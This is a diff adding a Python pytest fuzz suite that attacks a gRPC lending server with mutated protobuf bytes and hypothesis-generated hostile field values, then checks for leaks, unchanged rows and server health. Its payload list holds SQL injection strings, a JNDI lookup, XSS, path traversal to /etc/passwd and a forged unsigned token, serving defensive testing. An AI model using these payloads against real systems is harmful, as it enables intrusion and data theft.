@@ -1,0 +1,448 @@
+"""Hostile input against one real server: random and mutated bytes, hypothesis-made field values.
+
+For every call: the answer is never UNKNOWN or INTERNAL, its message holds
+no traceback, SQL or driver text that the request did not itself contain,
+and a refused call leaves every stored row as it was (all tables are
+compared before and after). At the end the server still answers SERVING
+and serves ordinary calls with exact figures.
+"""
+
+from __future__ import annotations
+
+import collections
+import random
+import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
+
+import grpc
+import pytest
+from conftest import make_settings
+from databases import BACKENDS, sqlite_url
+from google.protobuf import descriptor as pb_descriptor
+from google.protobuf import symbol_database
+from grpc_health.v1 import health_pb2, health_pb2_grpc
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from lending.v1 import audit_pb2, audit_pb2_grpc, auth_pb2, auth_pb2_grpc, billing_pb2, billing_pb2_grpc
+from rpc_helpers import today
+
+from lending_grpc.core.database import sqlite_path
+from lending_grpc.server import create_server
+
+SERVICES = [
+    service
+    for file in (auth_pb2.DESCRIPTOR, billing_pb2.DESCRIPTOR, audit_pb2.DESCRIPTOR)
+    for service in file.services_by_name.values()
+]
+METHODS = [method for service in SERVICES for method in service.methods]
+HEALTH_CHECK = "/grpc.health.v1.Health/Check"
+PASSWORD = "correct horse battery"
+
+# Text that must never reach a client unless the client sent it: tracebacks,
+# driver and ORM names, SQL, Python internals.
+LEAK_MARKERS = (
+    "Traceback",
+    'File "',
+    "sqlite",
+    "peewee",
+    "psycopg",
+    "SELECT ",
+    "INSERT ",
+    "UPDATE ",
+    "DELETE ",
+    "CONSTRAINT",
+    "constraint failed",
+    "OperationalError",
+    "IntegrityError",
+    "Exception",
+    "<object",
+    "0x7f",
+)
+REFUSAL_ALLOWED = {
+    grpc.StatusCode.INVALID_ARGUMENT,
+    grpc.StatusCode.UNAUTHENTICATED,
+    grpc.StatusCode.NOT_FOUND,
+    grpc.StatusCode.ALREADY_EXISTS,
+    grpc.StatusCode.FAILED_PRECONDITION,
+    grpc.StatusCode.RESOURCE_EXHAUSTED,
+    grpc.StatusCode.PERMISSION_DENIED,  # roles: an authenticated caller without the right
+}
+# Tables that record refused requests on purpose are left out of the "refused calls change
+# nothing" comparison: the audit trail (refusals are audited), failed sign-in counters, and
+# refresh-token families (a replayed refresh token revokes its family). Keep this list to exactly
+# such tables: the business tables (users, loans, payments) must stay compared.
+DELIBERATE_WRITES = frozenset({"audit_event", "login_throttle", "token_family"})
+
+SQL_AND_FORMAT = [
+    "' OR '1'='1",
+    "'; DROP TABLE loan; --",
+    '" OR ""="',
+    "1; DELETE FROM payment",
+    "L-1' --",
+    "UNION SELECT password_hash FROM user",
+    "%s%s%s%s%n",
+    "%(secret_key)s",
+    "{0.__class__.__mro__}",
+    "{secret}",
+    "${jndi:ldap://x/a}",
+    "<script>alert(1)</script>",
+    "../../etc/passwd",
+    "\x00",
+    "\r\n\r\nHTTP/1.1 200 OK",
+    "\u202e\u200b\ufeff",
+    "𝟘𝟙𝟚",
+    "Ω≈ç√∫",
+    "NaN",
+    "Infinity",
+    "-0",
+    "1e308",
+    "1e-400",
+    "0x10",
+    "1_000",
+    "９９",  # full-width digits
+    "٣",  # Arabic-Indic digit
+    "99999999999999999999999999999999",
+    "-99999999999999999999999999999999",
+    "1000000000000.01",
+    "0.001",
+    "0000-00-00",
+    "9999-12-31",
+    "2026-02-30",
+    "-0001-01-01",
+    "2026-1-1",
+    "20260105",
+    "2026-01-05T00:00:00Z",
+]
+
+
+def _plausible_text(field_name: str, state: dict) -> str:
+    values = {
+        # Sign-ins under attack target mallory, whose account absorbs the lockouts.
+        "username": "mallory",
+        "password": PASSWORD,
+        "email": "mallory@example.com",
+        "refresh_token": state["refresh_token"],
+        "loan_id": "L-1",
+        "principal_amount": "1000",
+        "start_date": "2026-01-05",
+        "interest_rate": "0.10",
+        "amount": "22.00",
+        "request_id": "pay-fuzz",
+        "as_of": "2026-01-27",
+        "page_token": "",
+    }
+    return values.get(field_name, "x")
+
+
+def _request_class(method: pb_descriptor.MethodDescriptor):
+    return symbol_database.Default().GetSymbol(method.input_type.full_name)
+
+
+def _plausible(method: pb_descriptor.MethodDescriptor, state: dict):
+    message = _request_class(method)()
+    for field in method.input_type.fields:
+        if field.type == field.TYPE_STRING:
+            setattr(message, field.name, _plausible_text(field.name, state))
+        elif field.type in (field.TYPE_INT32, field.TYPE_INT64):
+            setattr(message, field.name, 10)
+    return message
+
+
+class Ledger:
+    """Every stored row, read through a separate connection, to prove refused calls change nothing."""
+
+    def __init__(self, database_url: str) -> None:
+        path = sqlite_path(database_url)
+        if path is not None:
+            self._db = sqlite3.connect(path)
+            listing = "SELECT name FROM sqlite_master WHERE type = 'table'"
+        else:
+            import psycopg
+
+            self._db = psycopg.connect(database_url, autocommit=True)
+            listing = "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"
+        self._tables = sorted(
+            name for (name,) in self._db.execute(listing).fetchall() if name not in DELIBERATE_WRITES
+        )
+        assert {"user", "loan", "payment"} <= set(self._tables)
+        self.rows = self.read()
+
+    def read(self) -> dict[str, list[tuple]]:
+        return {
+            table: self._db.execute(f'SELECT * FROM "{table}" ORDER BY 1').fetchall()
+            for table in self._tables
+        }
+
+    def close(self) -> None:
+        self._db.close()
+
+
+class Target:
+    """The server under attack, its users and a record of every answer."""
+
+    def __init__(self, tmp_path: Path, database_url: str) -> None:
+        # Floods are the point here: the rate limits (tested on their own) would only answer them.
+        self.running = create_server(
+            make_settings(
+                tmp_path,
+                database_url=database_url,
+                rate_limit_user_per_second=0,
+                rate_limit_peer_per_second=0,
+            )
+        )
+        self.channel = grpc.insecure_channel(
+            f"127.0.0.1:{self.running.port}", options=[("grpc.max_send_message_length", -1)]
+        )
+        try:
+            self._prepare(database_url)
+        except BaseException:
+            self.close()
+            raise
+
+    def _prepare(self, database_url: str) -> None:
+        self.auth = auth_pb2_grpc.AuthServiceStub(self.channel)
+        self.billing = billing_pb2_grpc.BillingServiceStub(self.channel)
+        self.audit = audit_pb2_grpc.AuditServiceStub(self.channel)
+        self.state: dict = {}
+        self.metadata = {"alice": self._user("alice"), "bob": self._user("bob")}
+        self._user("mallory")
+        # The refresh token under attack is carol's, so replays revoking it leave alice's session alone.
+        self._user("carol")
+        self.metadata["none"] = ()
+        self.metadata["forged"] = (("authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."),)
+        alice = self.metadata["alice"]
+        self.billing.CreateLoan(
+            billing_pb2.CreateLoanRequest(
+                loan_id="L-1", principal_amount="1000", start_date="2026-01-05", term_weeks=50
+            ),
+            metadata=alice,
+        )
+        self.billing.CreateLoan(
+            billing_pb2.CreateLoanRequest(
+                loan_id="L-2", principal_amount="2000000", start_date=today().isoformat()
+            ),
+            metadata=alice,
+        )
+        self.billing.MakePayment(
+            billing_pb2.MakePaymentRequest(loan_id="L-2", amount="44000.00", request_id="pay-1"),
+            metadata=alice,
+        )
+        self.ledger = Ledger(database_url)
+        self.codes: collections.Counter = collections.Counter()
+
+    def _user(self, name: str):
+        self.auth.Register(
+            auth_pb2.RegisterRequest(username=name, password=PASSWORD, email=f"{name}@example.com")
+        )
+        return self._login(name)
+
+    def _login(self, name: str):
+        tokens = self.auth.Login(auth_pb2.LoginRequest(username=name, password=PASSWORD))
+        self.state["refresh_token"] = tokens.refresh_token
+        return (("authorization", f"Bearer {tokens.access_token}"),)
+
+    def after(self, path: str, who: str, code: grpc.StatusCode) -> None:
+        """A fuzzed Logout that succeeded ended that user's session: sign in again."""
+        if code is grpc.StatusCode.OK and path.endswith("/Logout") and who in ("alice", "bob"):
+            refresh = self.state["refresh_token"]
+            self.metadata[who] = self._login(who)
+            self.state["refresh_token"] = refresh  # still carol's
+            self.ledger.rows = self.ledger.read()
+
+    def raw(self, method: str, payload: bytes, metadata) -> tuple[grpc.StatusCode, str]:
+        call = self.channel.unary_unary(method, request_serializer=None, response_deserializer=None)
+        try:
+            call(payload, metadata=metadata, timeout=30)
+        except grpc.RpcError as err:
+            return err.code(), err.details() or ""
+        return grpc.StatusCode.OK, ""
+
+    def check(self, what, code: grpc.StatusCode, details: str, inputs: tuple[str, ...] = ()) -> None:
+        """The invariants every answer must keep."""
+        self.codes[code.name] += 1
+        assert code not in (grpc.StatusCode.UNKNOWN, grpc.StatusCode.INTERNAL), (what, code, details)
+        assert code is grpc.StatusCode.OK or code in REFUSAL_ALLOWED, (what, code, details)
+        assert len(details) <= 1024, (what, len(details))
+        for marker in LEAK_MARKERS:
+            if marker.lower() in details.lower():
+                assert any(marker.lower() in text.lower() for text in inputs), (what, marker, details)
+        rows = self.ledger.read()
+        if code is grpc.StatusCode.OK:
+            self.ledger.rows = rows
+        else:
+            assert rows == self.ledger.rows, (what, code, details)
+
+    def close(self) -> None:
+        if hasattr(self, "ledger"):
+            self.ledger.close()
+        self.channel.close()
+        self.running.stop(0)
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def target(request, tmp_path_factory) -> Iterator[Target]:
+    """One server per backend for the whole module: the attacks accumulate on the same data."""
+    tmp_path = tmp_path_factory.mktemp("fuzz")
+    if request.param != "sqlite":
+        request.getfixturevalue("postgres")  # before our server opens a database (one per process)
+    if request.param == "sqlite":
+        url = sqlite_url(tmp_path)
+    else:
+        databases = request.getfixturevalue("postgres")
+        url = databases.create()
+        request.addfinalizer(lambda: databases.drop(url))
+    target = Target(tmp_path, url)
+    yield target
+    target.close()
+
+
+def _mutate(rng: random.Random, data: bytes) -> bytes:
+    """One of the classic byte mutations of a valid encoding."""
+    data = bytearray(data)
+    kind = rng.randrange(9)
+    if kind == 0 and data:  # flip bits
+        for _ in range(rng.randint(1, 4)):
+            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
+    elif kind == 1 and data:  # truncate
+        del data[rng.randrange(len(data)) :]
+    elif kind == 2:  # insert random bytes
+        at = rng.randint(0, len(data))
+        data[at:at] = rng.randbytes(rng.randint(1, 16))
+    elif kind == 3:  # a length prefix claiming far more than follows
+        data[0:0] = bytes([0x0A]) + rng.choice(
+            [b"\xff\xff\xff\xff\x0f", b"\x80\x80\x80\x80\x80\x01", b"\x7f"]
+        )
+    elif kind == 4:  # the same field many times (last one wins for scalars)
+        data = data * rng.randint(2, 50)
+    elif kind == 5:  # unknown fields with every wire type, including the deprecated groups
+        tag = rng.randint(16, 2**29 - 1) << 3 | rng.choice([0, 1, 2, 3, 4, 5, 6, 7])
+        varint = bytearray()
+        while True:
+            byte, tag = tag & 0x7F, tag >> 7
+            varint.append(byte | (0x80 if tag else 0))
+            if not tag:
+                break
+        data += varint + rng.randbytes(rng.randint(0, 8))
+    elif kind == 6:  # a known field number with the wrong wire type
+        data[0:0] = bytes([rng.choice([0x08, 0x0D, 0x11, 0x18, 0x1A, 0x20])]) + rng.randbytes(4)
+    elif kind == 7:  # invalid UTF-8 inside a string field
+        data += b"\x0a\x04\xff\xfe\xc0\x80"
+    else:  # unknown field 15 as 50-200 nested groups: the parser's recursion limit is 100
+        depth = rng.randint(50, 200)
+        data += b"\x7b" * depth + b"\x7c" * depth
+    return bytes(data)
+
+
+def test_random_and_mutated_bytes_to_every_method(target):
+    rng = random.Random(20261126)
+    identities = ["alice", "bob", "none", "forged"]
+    sent = 0
+    for method in METHODS:
+        path = f"/{method.containing_service.full_name}/{method.name}"
+        valid = _plausible(method, target.state).SerializeToString()
+        payloads = [b"", b"\xff" * 65536, b"\x0a\xff\xff\xff\xff\x0f", b"\x0b" * 1000 + b"\x0c" * 1000]
+        payloads += [rng.randbytes(rng.randint(1, 256)) for _ in range(40)]
+        payloads += [_mutate(rng, valid) for _ in range(100)]
+        for n, payload in enumerate(payloads):
+            who = identities[n % len(identities)]
+            code, details = target.raw(path, payload, target.metadata[who])
+            target.check((path, who, payload[:64]), code, details)
+            target.after(path, who, code)
+            sent += 1
+    for n in range(100):  # the health service gets garbage too
+        code, details = target.raw(HEALTH_CHECK, rng.randbytes(rng.randint(0, 64)), ())
+        target.check((HEALTH_CHECK, n), code, details)
+        sent += 1
+    assert sent >= 1800
+    assert target.codes["INVALID_ARGUMENT"] > 100 and target.codes["UNAUTHENTICATED"] > 100
+
+
+def _hostile_text() -> st.SearchStrategy[str]:
+    fragments = st.sampled_from(SQL_AND_FORMAT)
+    return st.one_of(
+        st.text(max_size=80),
+        st.text(st.characters(max_codepoint=0x1F), max_size=40),  # control characters
+        st.text(st.characters(min_codepoint=0x80, exclude_categories=("Cs",)), max_size=40),
+        fragments,
+        st.tuples(st.text(max_size=10), fragments, st.text(max_size=10)).map("".join),
+        st.tuples(st.sampled_from(["9", "a", "é", "\x00", "L-", "' OR 1=1 "]), st.integers(100, 300_000)).map(
+            lambda pair: pair[0] * pair[1]  # huge strings, up to ~0.9 MB of UTF-8
+        ),
+    )
+
+
+_INTS = st.one_of(
+    st.integers(-(2**31), 2**31 - 1),
+    st.sampled_from([0, -1, 1, 49, 50, 51, 520, 521, 2**31 - 1, -(2**31), 10**9]),
+)
+
+
+@st.composite
+def hostile_calls(draw):
+    method = draw(st.sampled_from(METHODS))
+    message = _request_class(method)()
+    for field in method.input_type.fields:
+        if field.type == field.TYPE_STRING:
+            keep = _plausible_text(field.name, {"refresh_token": "x"})
+            value = draw(st.one_of(_hostile_text(), st.just(keep)))
+            setattr(message, field.name, value)
+        elif field.type in (field.TYPE_INT32, field.TYPE_INT64):
+            setattr(message, field.name, draw(_INTS))
+    who = draw(st.sampled_from(["alice", "alice", "alice", "bob", "none"]))
+    return method, message, who
+
+
+@settings(
+    max_examples=1000,
+    deadline=None,
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ],
+)
+@given(call=hostile_calls())
+def test_hypothesis_field_values_through_the_stubs(target, call):
+    method, message, who = call
+    path = f"/{method.containing_service.full_name}/{method.name}"
+    # The generated stub's own method: the request is serialized exactly as a client's would be.
+    stub = {"AuthService": target.auth, "BillingService": target.billing, "AuditService": target.audit}[
+        method.containing_service.name
+    ]
+    stub_call = getattr(stub, method.name)
+    try:
+        stub_call(message, metadata=target.metadata[who], timeout=30)
+        code, details = grpc.StatusCode.OK, ""
+    except grpc.RpcError as err:
+        code, details = err.code(), err.details() or ""
+    inputs = tuple(getattr(message, f.name) for f in method.input_type.fields if f.type == f.TYPE_STRING)
+    target.check((path, who, str(message)[:200]), code, details, inputs)
+    target.after(path, who, code)
+
+
+def test_five_megabyte_request_is_resource_exhausted_and_the_server_stays_healthy(target):
+    alice = target.metadata["alice"]
+    for path in ("/lending.v1.BillingService/CreateLoan", "/lending.v1.AuthService/Login"):
+        huge = b"\x0a\x80\x80\x80\x02" + b"a" * (5 * 1024 * 1024)  # field 1, 5 MiB long
+        code, details = target.raw(path, huge, alice)
+        assert code == grpc.StatusCode.RESOURCE_EXHAUSTED, details
+        target.check(path, code, details)
+    # Headers beyond the metadata limit (16 KiB soft, 20 KiB hard) are refused without harm either.
+    code, details = target.raw("/lending.v1.BillingService/ListLoans", b"", (("x-padding", "p" * 40_000),))
+    assert code == grpc.StatusCode.RESOURCE_EXHAUSTED, details
+    target.check("huge metadata", code, details)
+
+
+def test_server_is_healthy_and_exact_after_the_attacks(target):
+    health = health_pb2_grpc.HealthStub(target.channel)
+    assert health.Check(health_pb2.HealthCheckRequest()).status == health_pb2.HealthCheckResponse.SERVING
+    loan = target.billing.GetLoan(
+        billing_pb2.GetLoanRequest(loan_id="L-2"), metadata=target.metadata["alice"]
+    )
+    assert (loan.total_amount, loan.paid_amount, loan.outstanding_balance) == (
+        "2200000.00",
+        "44000.00",
+        "2156000.00",
+    )
+    print("answers by code:", dict(target.codes))
